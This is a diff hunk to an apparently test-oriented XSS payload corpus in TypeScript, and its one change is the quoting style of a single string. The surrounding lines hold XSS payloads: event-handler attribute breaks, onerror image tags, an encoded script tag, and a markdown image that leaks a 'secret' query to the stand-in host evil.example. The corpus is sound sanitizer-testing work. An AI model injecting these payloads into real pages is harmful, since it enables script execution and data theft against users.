@@ -35,7 +35,7 @@ export const XSS_CORPUS: string[] = [
   "![pixel](https://evil.example/leak?q=secret)",
   "<javascript:alert(1)>",
   '[quote break](https://ok.example/" onmouseover="alert(1))',
-  "[attr break](https://ok.example/a\"onclick=alert(1)//)",
+  '[attr break](https://ok.example/a"onclick=alert(1)//)',
   "&lt;script&gt;window.__pwned = 1&lt;/script&gt;",
   "&#60;img src=x onerror=alert(1)&#62;",
   "**<img src=x onerror=alert(1)>**",
